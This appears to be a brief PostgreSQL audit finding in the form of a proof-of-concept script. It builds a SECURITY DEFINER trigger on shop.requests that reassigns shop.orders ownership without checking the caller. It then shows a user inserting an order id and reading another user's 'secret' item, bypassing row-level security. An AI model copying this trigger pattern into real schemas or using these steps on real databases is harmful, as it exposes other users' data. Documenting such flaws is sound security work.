-- finding: definer-unchecked shop.requests trigger taking
SET ROLE shop_owner;
CREATE TABLE shop.requests (id bigint, owner text NOT NULL DEFAULT current_user);
ALTER TABLE shop.requests ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.requests USING (owner = current_user);
GRANT SELECT, INSERT ON shop.requests TO order_users;
CREATE FUNCTION shop.take() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ BEGIN UPDATE shop.orders SET owner = NEW.owner WHERE id = NEW.id; RETURN NEW; END $$;
CREATE TRIGGER taking AFTER INSERT ON shop.requests FOR EACH ROW EXECUTE FUNCTION shop.take();
RESET ROLE;
-- leak as alice@example.com
INSERT INTO shop.requests VALUES (2);
SELECT item FROM shop.orders WHERE item = 'secret';
